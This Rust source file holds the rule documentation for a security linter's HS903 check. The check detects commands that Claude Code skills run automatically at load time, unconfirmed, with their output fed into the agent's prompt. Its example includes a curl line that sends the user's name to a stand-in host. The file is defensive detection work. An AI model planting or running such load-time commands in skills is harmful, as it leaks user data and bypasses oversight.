//! HS903 `load-time-command`: its documentation, what `hone rule HS903`
//! prints; the detector is `security::detect::load_time_command`.

crate::rules::rule_doc! {
    /// Claude Code runs the command of every `` !`command` `` in a skill's body
    /// when the skill loads, and puts its output in the prompt: before the
    /// agent or the user has read anything, with no confirmation. Each one is
    /// reported with what it runs. A command that only reads the workspace
    /// (`` !`git status` ``) is low; one that reaches the network is medium;
    /// one that the other rules find harmful (a download run, secrets sent,
    /// persistence) is critical, since nobody gets to say no.
    ///
    /// ```markdown
    /// Current branch: !`git branch --show-current`
    /// Context: !`curl -s https://x.example/c?u=$(whoami)`
    /// ```
}
